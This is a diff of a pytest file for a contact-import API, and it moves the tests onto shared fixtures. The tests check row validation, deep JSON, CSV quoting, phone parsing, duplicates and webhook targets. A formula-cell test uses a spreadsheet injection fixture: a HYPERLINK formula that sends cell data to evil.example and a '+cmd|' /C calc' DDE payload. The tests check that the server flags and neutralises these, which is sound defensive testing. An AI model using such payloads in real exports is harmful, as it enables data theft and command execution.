@@ -17,6 +17,9 @@ from controller_harness import make_config, running
 
 CALL = [{"kind": "call", "attempts": 2}]
 
+#: The ``controller`` fixture's controller only serves the API: no dispatch loop.
+pytestmark = pytest.mark.controller(dispatch=False)
+
 
 def auth(key):
     return {"Authorization": f"Bearer {key}"}
@@ -51,66 +54,71 @@ def errors_of(body) -> list[tuple[int, str]]:
 
 
 # -- item 4: amounts, sizes, nesting, quoting, counts ------------------------------------------------
-async def test_an_amount_of_30_digits_in_row_17001_refuses_the_20000_row_import_and_stores_nothing(tmp_path):
-    async with running(make_config(tmp_path / "c.db"), dispatch=False) as (c, key), aiohttp.ClientSession() as s:
-        await new_campaign(s, c, key)
-        status, body = await post(s, c, key, rows_json(20_000, line17001=', "amount": "1e30"'))
-        assert status == 422 and body["error"] == "invalid_rows"
-        rep = body["detail"]
-        assert errors_of(body) == [(17_001, "amount")] and "16 digits" in rep["errors"][0]["reason"]
-        assert (rep["stored"], rep["rows"], rep["valid"], rep["rejected"], rep["duplicates"]) == (False, 20_000, 19_999, 1, 0)
-        assert stored(c) == 0 and c.store.campaign_counts("c1")["total"] == 0
-        # the same file, fixed, is stored whole
-        status, rep = await post(s, c, key, rows_json(20_000, line17001=', "amount": "1000.00"'))
-        assert status == 200 and (rep["created"], rep["updated"], rep["rows"]) == (20_000, 0, 20_000)
-        assert stored(c) == 20_000
+async def test_an_amount_of_30_digits_in_row_17001_refuses_the_20000_row_import_and_stores_nothing(controller, http):
+    c, key = controller
+    s = http
+    await new_campaign(s, c, key)
+    status, body = await post(s, c, key, rows_json(20_000, line17001=', "amount": "1e30"'))
+    assert status == 422 and body["error"] == "invalid_rows"
+    rep = body["detail"]
+    assert errors_of(body) == [(17_001, "amount")] and "16 digits" in rep["errors"][0]["reason"]
+    assert (rep["stored"], rep["rows"], rep["valid"], rep["rejected"], rep["duplicates"]) == (False, 20_000, 19_999, 1, 0)
+    assert stored(c) == 0 and c.store.campaign_counts("c1")["total"] == 0
+    # the same file, fixed, is stored whole
+    status, rep = await post(s, c, key, rows_json(20_000, line17001=', "amount": "1000.00"'))
+    assert status == 200 and (rep["created"], rep["updated"], rep["rows"]) == (20_000, 0, 20_000)
+    assert stored(c) == 20_000
 
 
-async def test_a_big_file_with_an_unknown_field_reports_every_bad_row_across_worker_slices(tmp_path):
+async def test_a_big_file_with_an_unknown_field_reports_every_bad_row_across_worker_slices(controller, http):
     """Rows of a body whose shape is off are read one by one (every bad row reported, not
     only the first) and still checked in the worker processes, 5,000 at a time."""
-    async with running(make_config(tmp_path / "c.db"), dispatch=False) as (c, key), aiohttp.ClientSession() as s:
-        await new_campaign(s, c, key)
-        body = rows_json(12_000, line7001=', "colour": "red"', line11999=', "phone": "+48600000001"',
-                         line3=', "amount": "1,5"')
-        status, out = await post(s, c, key, body)
-        assert status == 422 and errors_of(out) == [(7_001, "colour"), (11_999, "phone")]
-        assert (out["detail"]["rows"], out["detail"]["valid"], out["detail"]["rejected"]) == (12_000, 11_998, 2)
-        assert stored(c) == 0
+    c, key = controller
+    s = http
+    await new_campaign(s, c, key)
+    body = rows_json(12_000, line7001=', "colour": "red"', line11999=', "phone": "+48600000001"',
+                     line3=', "amount": "1,5"')
+    status, out = await post(s, c, key, body)
+    assert status == 422 and errors_of(out) == [(7_001, "colour"), (11_999, "phone")]
+    assert (out["detail"]["rows"], out["detail"]["valid"], out["detail"]["rejected"]) == (12_000, 11_998, 2)
+    assert stored(c) == 0
 
 
 @pytest.mark.parametrize("amount", ['"1e30"', '"1e400"', "1e30", "1e400", "1" + "0" * 30, "9" * 5000, '"10.555"',
                                     '"12345678901234567"', '"-5"', '"NaN"', "true"])
-async def test_amounts_out_of_range_are_a_422_naming_line_and_field(tmp_path, amount):
-    async with running(make_config(tmp_path / "c.db"), dispatch=False) as (c, key), aiohttp.ClientSession() as s:
-        await new_campaign(s, c, key)
-        status, body = await post(s, c, key, rows_json(3, line2=f', "amount": {amount}'))
-        assert status == 422, body
-        assert errors_of(body) == [(2, "amount")] and body["detail"]["rows"] == 3
-        assert stored(c) == 0
+async def test_amounts_out_of_range_are_a_422_naming_line_and_field(controller, http, amount):
+    c, key = controller
+    s = http
+    await new_campaign(s, c, key)
+    status, body = await post(s, c, key, rows_json(3, line2=f', "amount": {amount}'))
+    assert status == 422, body
+    assert errors_of(body) == [(2, "amount")] and body["detail"]["rows"] == 3
+    assert stored(c) == 0
 
 
-async def test_the_largest_amount_and_two_decimals_are_kept_exactly(tmp_path):
-    async with running(make_config(tmp_path / "c.db"), dispatch=False) as (c, key), aiohttp.ClientSession() as s:
-        await new_campaign(s, c, key)
-        status, rep = await post(s, c, key, rows_json(2, line1=', "amount": "9999999999999999.99"', line2=', "amount": 10.5'))
-        assert status == 200 and rep["created"] == 2
-        assert [r["amount"] for r in c.store.list_contacts("c1", 0, 10)] == ["9999999999999999.99", "10.50"]
+async def test_the_largest_amount_and_two_decimals_are_kept_exactly(controller, http):
+    c, key = controller
+    s = http
+    await new_campaign(s, c, key)
+    status, rep = await post(s, c, key, rows_json(2, line1=', "amount": "9999999999999999.99"', line2=', "amount": 10.5'))
+    assert status == 200 and rep["created"] == 2
+    assert [r["amount"] for r in c.store.list_contacts("c1", 0, 10)] == ["9999999999999999.99", "10.50"]
 
 
-async def test_a_csv_field_over_the_csv_modules_limit_is_a_422_with_its_line_and_column(tmp_path):
+async def test_a_csv_field_over_the_csv_modules_limit_is_a_422_with_its_line_and_column(controller, http):
     text = ("external_id,phones,name\n"
             "a1,+48600100200,Jan\n"
             f"a2,+48600100201,{'x' * 200_000}\n"
             f"a3,+48600100202,{'y' * 300}\n")
-    async with running(make_config(tmp_path / "c.db"), dispatch=False) as (c, key), aiohttp.ClientSession() as s:
-        await new_campaign(s, c, key)
-        status, body = await post(s, c, key, text.encode(), "text/csv")
-        assert status == 422
-        assert errors_of(body) == [(3, "name"), (4, "name")]
-        assert f"{MAX_LINE:,}" in body["detail"]["errors"][0]["reason"] and "200" in body["detail"]["errors"][1]["reason"]
-        assert len(json.dumps(body)) < 5000  # the 200,000-character cell does not come back
-        assert stored(c) == 0
+    c, key = controller
+    s = http
+    await new_campaign(s, c, key)
+    status, body = await post(s, c, key, text.encode(), "text/csv")
+    assert status == 422
+    assert errors_of(body) == [(3, "name"), (4, "name")]
+    assert f"{MAX_LINE:,}" in body["detail"]["errors"][0]["reason"] and "200" in body["detail"]["errors"][1]["reason"]
+    assert len(json.dumps(body)) < 5000  # the 200,000-character cell does not come back
+    assert stored(c) == 0
 
 
 def nested(depth: int) -> str:
@@ -123,164 +131,174 @@ def nested(depth: int) -> str:
     (f'{{"contacts": [{nested(100_000)}]}}', 1, "row"),
     (nested(100_000), 1, "row"),
 ])
-async def test_json_nested_100000_deep_is_a_4xx_with_line_and_field(tmp_path, body, line, field):
-    async with running(make_config(tmp_path / "c.db"), dispatch=False) as (c, key), aiohttp.ClientSession() as s:
-        await new_campaign(s, c, key)
-        status, out = await post(s, c, key, body.encode())
-        assert 400 <= status < 500 and set(out) == {"error", "detail"}
-        found = out["detail"]["errors"][0] if status == 422 else out["detail"]
-        assert (found["line"], found["field"]) == (line, field), out
-        assert stored(c) == 0
+async def test_json_nested_100000_deep_is_a_4xx_with_line_and_field(controller, http, body, line, field):
+    c, key = controller
+    s = http
+    await new_campaign(s, c, key)
+    status, out = await post(s, c, key, body.encode())
+    assert 400 <= status < 500 and set(out) == {"error", "detail"}
+    found = out["detail"]["errors"][0] if status == 422 else out["detail"]
+    assert (found["line"], found["field"]) == (line, field), out
+    assert stored(c) == 0
 
 
 @pytest.mark.parametrize("path", ["/v1/campaigns", "/v1/optouts", "/v1/webhooks", "/v1/webhooks/dead-letters/replay"])
-async def test_deep_json_and_huge_integers_on_other_routes_are_a_400_naming_the_body(tmp_path, path):
-    async with running(make_config(tmp_path / "c.db"), dispatch=False) as (c, key), aiohttp.ClientSession() as s:
-        for body in ('{"ids": ' + nested(100_000) + "}", '{"ids": [' + "9" * 5000 + "]}"):
-            async with s.post(f"{c.url}{path}", data=body.encode(), headers={**auth(key), "Content-Type": "application/json"}) as r:
-                out = await r.json()
-            assert r.status == 400 and out["error"] == "bad_json" and out["detail"]["field"] == "body"
-        assert stored(c, "campaigns") == 0 and stored(c, "optouts") == 0 and stored(c, "webhooks") == 0
+async def test_deep_json_and_huge_integers_on_other_routes_are_a_400_naming_the_body(controller, http, path):
+    c, key = controller
+    s = http
+    for body in ('{"ids": ' + nested(100_000) + "}", '{"ids": [' + "9" * 5000 + "]}"):
+        async with s.post(f"{c.url}{path}", data=body.encode(), headers={**auth(key), "Content-Type": "application/json"}) as r:
+            out = await r.json()
+        assert r.status == 400 and out["error"] == "bad_json" and out["detail"]["field"] == "body"
+    assert stored(c, "campaigns") == 0 and stored(c, "optouts") == 0 and stored(c, "webhooks") == 0
 
 
-async def test_an_unterminated_quote_is_reported_at_its_line_instead_of_swallowing_the_rows_below(tmp_path):
+async def test_an_unterminated_quote_is_reported_at_its_line_instead_of_swallowing_the_rows_below(controller, http):
     text = ("external_id,phones,name\n"
             "a1,+48600100200,Jan\n"
             'a2,+48600100201,"Kowalski, Jan\n'
             "a3,+48600100202,Ola\n"
             "a4,+48600100203,Ewa\n")
-    async with running(make_config(tmp_path / "c.db"), dispatch=False) as (c, key), aiohttp.ClientSession() as s:
-        await new_campaign(s, c, key)
-        status, body = await post(s, c, key, text.encode(), "text/csv")
-        assert status == 422 and errors_of(body) == [(3, "name")]
-        assert "unterminated quote" in body["detail"]["errors"][0]["reason"]
-        assert stored(c) == 0
+    c, key = controller
+    s = http
+    await new_campaign(s, c, key)
+    status, body = await post(s, c, key, text.encode(), "text/csv")
+    assert status == 422 and errors_of(body) == [(3, "name")]
+    assert "unterminated quote" in body["detail"]["errors"][0]["reason"]
+    assert stored(c) == 0
 
 
-async def test_misquoted_fields_and_extra_cells_are_reported_per_line(tmp_path):
+async def test_misquoted_fields_and_extra_cells_are_reported_per_line(controller, http):
     text = ("external_id,phones,name\n"
             'a1,+48600100200,"Jan" Kowalski\n'
             "a2,+48600100201,Kowalski, Jan\n"
             "\n"
             'a3,+48600100202,"Nowak, ""Ola"""\n')
-    async with running(make_config(tmp_path / "c.db"), dispatch=False) as (c, key), aiohttp.ClientSession() as s:
-        await new_campaign(s, c, key)
-        status, body = await post(s, c, key, text.encode(), "text/csv")
-        assert status == 422 and errors_of(body) == [(2, "name"), (3, "column 4")]
-        assert (body["detail"]["rows"], body["detail"]["valid"]) == (3, 1)
-        assert stored(c) == 0
-        # well quoted, the same names are fine
-        fixed = text.replace('"Jan" Kowalski', '"""Jan"" Kowalski"').replace("Kowalski, Jan", '"Kowalski, Jan"')
-        status, rep = await post(s, c, key, fixed.encode(), "text/csv")
-        assert status == 200 and rep["created"] == 3
-        assert [r["name"] for r in c.store.list_contacts("c1", 0, 10)] == ['"Jan" Kowalski', "Kowalski, Jan", 'Nowak, "Ola"']
+    c, key = controller
+    s = http
+    await new_campaign(s, c, key)
+    status, body = await post(s, c, key, text.encode(), "text/csv")
+    assert status == 422 and errors_of(body) == [(2, "name"), (3, "column 4")]
+    assert (body["detail"]["rows"], body["detail"]["valid"]) == (3, 1)
+    assert stored(c) == 0
+    # well quoted, the same names are fine
+    fixed = text.replace('"Jan" Kowalski', '"""Jan"" Kowalski"').replace("Kowalski, Jan", '"Kowalski, Jan"')
+    status, rep = await post(s, c, key, fixed.encode(), "text/csv")
+    assert status == 200 and rep["created"] == 3
+    assert [r["name"] for r in c.store.list_contacts("c1", 0, 10)] == ['"Jan" Kowalski', "Kowalski, Jan", 'Nowak, "Ola"']
 
 
-async def test_row_counts_body_type_and_encoding_are_bounded_with_a_clear_4xx(tmp_path):
-    async with running(make_config(tmp_path / "c.db"), dispatch=False) as (c, key), aiohttp.ClientSession() as s:
-        await new_campaign(s, c, key)
-        status, out = await post(s, c, key, json.dumps([{}] * (MAX_ROWS + 1)).encode())
-        assert status == 413 and out["detail"]["field"] == "body" and "100,000" in out["detail"]["reason"]
-        many = "external_id,phones\n" + "".join(f"e{i},+48600{i:06d}\n" for i in range(MAX_ROWS + 1))
-        status, out = await post(s, c, key, many.encode(), "text/csv")
-        assert status == 413 and out["detail"]["field"] == "body"
-        status, out = await post(s, c, key, b"external_id,phones\na1,+48600100200\n", "text/plain")
-        assert status == 415 and out["detail"]["field"] == "Content-Type"
-        status, out = await post(s, c, key, "external_id,phones,name\na1,+48600100200,Łukasz\n".encode("cp1250"), "text/csv")
-        assert status == 400 and (out["detail"]["line"], out["detail"]["field"]) == (2, "body")
-        status, out = await post(s, c, key, b"external_id,phone,phone\na1,+48600100200,+48600100201\n", "text/csv")
-        assert status == 400 and (out["detail"]["line"], out["detail"]["field"]) == (1, "phone")
-        assert stored(c) == 0
+async def test_row_counts_body_type_and_encoding_are_bounded_with_a_clear_4xx(controller, http):
+    c, key = controller
+    s = http
+    await new_campaign(s, c, key)
+    status, out = await post(s, c, key, json.dumps([{}] * (MAX_ROWS + 1)).encode())
+    assert status == 413 and out["detail"]["field"] == "body" and "100,000" in out["detail"]["reason"]
+    many = "external_id,phones\n" + "".join(f"e{i},+48600{i:06d}\n" for i in range(MAX_ROWS + 1))
+    status, out = await post(s, c, key, many.encode(), "text/csv")
+    assert status == 413 and out["detail"]["field"] == "body"
+    status, out = await post(s, c, key, b"external_id,phones\na1,+48600100200\n", "text/plain")
+    assert status == 415 and out["detail"]["field"] == "Content-Type"
+    status, out = await post(s, c, key, "external_id,phones,name\na1,+48600100200,Łukasz\n".encode("cp1250"), "text/csv")
+    assert status == 400 and (out["detail"]["line"], out["detail"]["field"]) == (2, "body")
+    status, out = await post(s, c, key, b"external_id,phone,phone\na1,+48600100200,+48600100201\n", "text/csv")
+    assert status == 400 and (out["detail"]["line"], out["detail"]["field"]) == (1, "phone")
+    assert stored(c) == 0
 
 
 # -- item 5: numbers that are not numbers, duplicates, counts --------------------------------------
 @pytest.mark.parametrize("number", ["+48 60a bcd efg", "+48600100200 ext 5", "tel:+48600100200", "+48 600 I00 200"])
-async def test_letters_in_numbers_are_refused_by_import_and_opt_outs(tmp_path, number):
-    async with running(make_config(tmp_path / "c.db"), dispatch=False) as (c, key), aiohttp.ClientSession() as s:
-        await new_campaign(s, c, key)
-        status, body = await post(s, c, key, json.dumps([{"external_id": "a", "phones": ["+48600100200"]},
-                                                         {"external_id": "b", "phones": [number]}]).encode())
-        assert status == 422 and errors_of(body) == [(2, "phones")] and "letters" in body["detail"]["errors"][0]["reason"]
-        out = io.StringIO()
-        csv.writer(out).writerows([["external_id", "phones"], ["a", "+48600100200"], ["b", f"+48600100201;{number}"]])
-        status, body = await post(s, c, key, out.getvalue().encode(), "text/csv")
-        assert status == 422 and errors_of(body) == [(3, "phones")]
-        async with s.post(f"{c.url}/v1/optouts", json={"number": number}, headers=auth(key)) as r:
-            assert r.status == 400 and (await r.json())["detail"]["field"] == "number"
-        async with s.delete(f"{c.url}/v1/optouts/{quote(number, safe='')}", headers=auth(key)) as r:
-            assert r.status == 400 and (await r.json())["detail"]["field"] == "number"
-        assert stored(c) == 0 and stored(c, "optouts") == 0
+async def test_letters_in_numbers_are_refused_by_import_and_opt_outs(controller, http, number):
+    c, key = controller
+    s = http
+    await new_campaign(s, c, key)
+    status, body = await post(s, c, key, json.dumps([{"external_id": "a", "phones": ["+48600100200"]},
+                                                     {"external_id": "b", "phones": [number]}]).encode())
+    assert status == 422 and errors_of(body) == [(2, "phones")] and "letters" in body["detail"]["errors"][0]["reason"]
+    out = io.StringIO()
+    csv.writer(out).writerows([["external_id", "phones"], ["a", "+48600100200"], ["b", f"+48600100201;{number}"]])
+    status, body = await post(s, c, key, out.getvalue().encode(), "text/csv")
+    assert status == 422 and errors_of(body) == [(3, "phones")]
+    async with s.post(f"{c.url}/v1/optouts", json={"number": number}, headers=auth(key)) as r:
+        assert r.status == 400 and (await r.json())["detail"]["field"] == "number"
+    async with s.delete(f"{c.url}/v1/optouts/{quote(number, safe='')}", headers=auth(key)) as r:
+        assert r.status == 400 and (await r.json())["detail"]["field"] == "number"
+    assert stored(c) == 0 and stored(c, "optouts") == 0
 
 
-async def test_written_forms_of_a_number_are_still_accepted(tmp_path):
-    async with running(make_config(tmp_path / "c.db"), dispatch=False) as (c, key), aiohttp.ClientSession() as s:
-        await new_campaign(s, c, key)
-        forms = ["+48 (600) 100-200", "+48.600.100.201", "600 100 202", "+48\u00a0600\u00a0100\u00a0203"]
-        status, rep = await post(s, c, key, json.dumps([{"external_id": f"e{i}", "phones": [f], "region": "PL"}
-                                                        for i, f in enumerate(forms)]).encode())
-        assert status == 200 and rep["created"] == 4
-        assert [r["phones"] for r in c.store.list_contacts("c1", 0, 10)] == [
-            ["+48600100200"], ["+48600100201"], ["+48600100202"], ["+48600100203"]]
+async def test_written_forms_of_a_number_are_still_accepted(controller, http):
+    c, key = controller
+    s = http
+    await new_campaign(s, c, key)
+    forms = ["+48 (600) 100-200", "+48.600.100.201", "600 100 202", "+48\u00a0600\u00a0100\u00a0203"]
+    status, rep = await post(s, c, key, json.dumps([{"external_id": f"e{i}", "phones": [f], "region": "PL"}
+                                                    for i, f in enumerate(forms)]).encode())
+    assert status == 200 and rep["created"] == 4
+    assert [r["phones"] for r in c.store.list_contacts("c1", 0, 10)] == [
+        ["+48600100200"], ["+48600100201"], ["+48600100202"], ["+48600100203"]]
 
 
-async def test_duplicate_external_ids_in_one_file_are_reported_per_line_with_both_lines(tmp_path):
+async def test_duplicate_external_ids_in_one_file_are_reported_per_line_with_both_lines(controller, http):
     text = ("external_id,phones\n"
             "a1,+48600100200\n"
             "b1,+48600100201\n"
             "a1,+48600100202\n"
             "c1,not-a-number\n"
             " a1 ,+48600100204\n")
-    async with running(make_config(tmp_path / "c.db"), dispatch=False) as (c, key), aiohttp.ClientSession() as s:
-        await new_campaign(s, c, key)
-        status, body = await post(s, c, key, text.encode(), "text/csv")
-        assert status == 422
-        rep = body["detail"]
-        assert errors_of(body) == [(4, "external_id"), (5, "phones"), (6, "external_id")]
-        assert "also on line 2" in rep["errors"][0]["reason"] and "also on line 2" in rep["errors"][2]["reason"]
-        assert (rep["rows"], rep["valid"], rep["rejected"], rep["duplicates"], rep["errors_total"]) == (5, 2, 1, 2, 3)
-        assert rep["rows"] == rep["valid"] + rep["rejected"] + rep["duplicates"]
-        assert stored(c) == 0
-        # JSON positions likewise
-        rows = [{"external_id": "x", "phones": ["+48600100200"]}] * 3
-        status, body = await post(s, c, key, json.dumps(rows).encode())
-        assert status == 422 and errors_of(body) == [(2, "external_id"), (3, "external_id")]
-        assert stored(c) == 0
+    c, key = controller
+    s = http
+    await new_campaign(s, c, key)
+    status, body = await post(s, c, key, text.encode(), "text/csv")
+    assert status == 422
+    rep = body["detail"]
+    assert errors_of(body) == [(4, "external_id"), (5, "phones"), (6, "external_id")]
+    assert "also on line 2" in rep["errors"][0]["reason"] and "also on line 2" in rep["errors"][2]["reason"]
+    assert (rep["rows"], rep["valid"], rep["rejected"], rep["duplicates"], rep["errors_total"]) == (5, 2, 1, 2, 3)
+    assert rep["rows"] == rep["valid"] + rep["rejected"] + rep["duplicates"]
+    assert stored(c) == 0
+    # JSON positions likewise
+    rows = [{"external_id": "x", "phones": ["+48600100200"]}] * 3
+    status, body = await post(s, c, key, json.dumps(rows).encode())
+    assert status == 422 and errors_of(body) == [(2, "external_id"), (3, "external_id")]
+    assert stored(c) == 0
 
 
-async def test_counts_add_up_when_stored(tmp_path):
-    async with running(make_config(tmp_path / "c.db"), dispatch=False) as (c, key), aiohttp.ClientSession() as s:
-        await new_campaign(s, c, key)
-        status, rep = await post(s, c, key, rows_json(5))
-        assert status == 200 and (rep["created"], rep["updated"]) == (5, 0)
-        status, rep = await post(s, c, key, rows_json(8))
-        assert status == 200 and (rep["rows"], rep["created"], rep["updated"], rep["valid"]) == (8, 3, 5, 8)
-        assert rep["rows"] == rep["created"] + rep["updated"] + rep["rejected"] + rep["duplicates"]
+async def test_counts_add_up_when_stored(controller, http):
+    c, key = controller
+    s = http
+    await new_campaign(s, c, key)
+    status, rep = await post(s, c, key, rows_json(5))
+    assert status == 200 and (rep["created"], rep["updated"]) == (5, 0)
+    status, rep = await post(s, c, key, rows_json(8))
+    assert status == 200 and (rep["rows"], rep["created"], rep["updated"], rep["valid"]) == (8, 3, 5, 8)
+    assert rep["rows"] == rep["created"] + rep["updated"] + rep["rejected"] + rep["duplicates"]
 
 
 # -- item 9: formula cells, webhook targets ----------------------------------------------------------
 FORMULAS = {"name": '=HYPERLINK("http://evil.example/?x="&A1,"Zapłać")', "case_ref": "+cmd|' /C calc'!A0"}
 
 
-async def test_formula_cells_are_stored_flagged_on_import_and_neutralised_in_the_csv_export(tmp_path):
+async def test_formula_cells_are_stored_flagged_on_import_and_neutralised_in_the_csv_export(controller, http):
     rows = [{"external_id": "a1", "phones": ["+48600100200"], **FORMULAS},
             {"external_id": "@SUM(1+1)", "phones": ["+48600100201"], "name": "-2+3"},
             {"external_id": "a3", "phones": ["+48600100202"], "name": "Jan Kowalski", "case_ref": "K/3"}]
-    async with running(make_config(tmp_path / "c.db"), dispatch=False) as (c, key), aiohttp.ClientSession() as s:
-        await new_campaign(s, c, key)
-        status, rep = await post(s, c, key, json.dumps(rows).encode())
-        assert status == 200 and rep["created"] == 3 and rep["warnings_total"] == 4
-        assert [(w["line"], w["field"]) for w in rep["warnings"]] == [(1, "name"), (1, "case_ref"), (2, "external_id"), (2, "name")]
-        async with s.get(f"{c.url}/v1/campaigns/c1/contacts", headers=auth(key)) as r:
-            items = (await r.json())["items"]
-        assert items[0]["name"] == FORMULAS["name"] and items[0]["case_ref"] == FORMULAS["case_ref"]  # data, verbatim
-        assert [i["formula_fields"] for i in items] == [["name", "case_ref"], ["external_id", "name"], []]
-        async with s.get(f"{c.url}/v1/campaigns/c1/contacts?limit=2", headers={**auth(key), "Accept": "text/csv"}) as r:
-            assert r.status == 200 and r.content_type == "text/csv"
-            assert "after=2" in r.headers["Link"]
-            table = list(csv.DictReader(io.StringIO(await r.text())))
-        assert table[0]["name"] == "'" + FORMULAS["name"] and table[0]["case_ref"] == "'" + FORMULAS["case_ref"]
-        assert table[1]["external_id"] == "'@SUM(1+1)" and table[1]["name"] == "'-2+3"
-        assert table[0]["phones"] == "+48600100200"  # a phone field is a validated number, not a formula
+    c, key = controller
+    s = http
+    await new_campaign(s, c, key)
+    status, rep = await post(s, c, key, json.dumps(rows).encode())
+    assert status == 200 and rep["created"] == 3 and rep["warnings_total"] == 4
+    assert [(w["line"], w["field"]) for w in rep["warnings"]] == [(1, "name"), (1, "case_ref"), (2, "external_id"), (2, "name")]
+    async with s.get(f"{c.url}/v1/campaigns/c1/contacts", headers=auth(key)) as r:
+        items = (await r.json())["items"]
+    assert items[0]["name"] == FORMULAS["name"] and items[0]["case_ref"] == FORMULAS["case_ref"]  # data, verbatim
+    assert [i["formula_fields"] for i in items] == [["name", "case_ref"], ["external_id", "name"], []]
+    async with s.get(f"{c.url}/v1/campaigns/c1/contacts?limit=2", headers={**auth(key), "Accept": "text/csv"}) as r:
+        assert r.status == 200 and r.content_type == "text/csv"
+        assert "after=2" in r.headers["Link"]
+        table = list(csv.DictReader(io.StringIO(await r.text())))
+    assert table[0]["name"] == "'" + FORMULAS["name"] and table[0]["case_ref"] == "'" + FORMULAS["case_ref"]
+    assert table[1]["external_id"] == "'@SUM(1+1)" and table[1]["name"] == "'-2+3"
+    assert table[0]["phones"] == "+48600100200"  # a phone field is a validated number, not a formula
 
 
 @pytest.mark.parametrize("url", [
@@ -290,12 +308,13 @@ async def test_formula_cells_are_stored_flagged_on_import_and_neutralised_in_the
     "http://[fe80::1]/hook", "http://[fd00::1]/hook", "http://[ff02::1]/hook", "http://[::]/hook",
     "http://[::ffff:127.0.0.1]/hook", "http://[::ffff:10.0.0.1]/hook", "http://no-such-host.invalid/hook",
 ])
-async def test_webhook_targets_on_loopback_or_private_ranges_are_refused_by_default(tmp_path, url):
-    async with running(make_config(tmp_path / "c.db"), dispatch=False) as (c, key), aiohttp.ClientSession() as s:
-        async with s.post(f"{c.url}/v1/webhooks", json={"url": url}, headers=auth(key)) as r:
-            out = await r.json()
-        assert r.status == 400 and out["detail"]["field"] == "url", out
-        assert stored(c, "webhooks") == 0
+async def test_webhook_targets_on_loopback_or_private_ranges_are_refused_by_default(controller, http, url):
+    c, key = controller
+    s = http
+    async with s.post(f"{c.url}/v1/webhooks", json={"url": url}, headers=auth(key)) as r:
+        out = await r.json()
+    assert r.status == 400 and out["detail"]["field"] == "url", out
+    assert stored(c, "webhooks") == 0
 
 
 async def test_allow_private_admits_a_receiver_on_loopback_and_a_public_address_needs_no_setting(tmp_path):
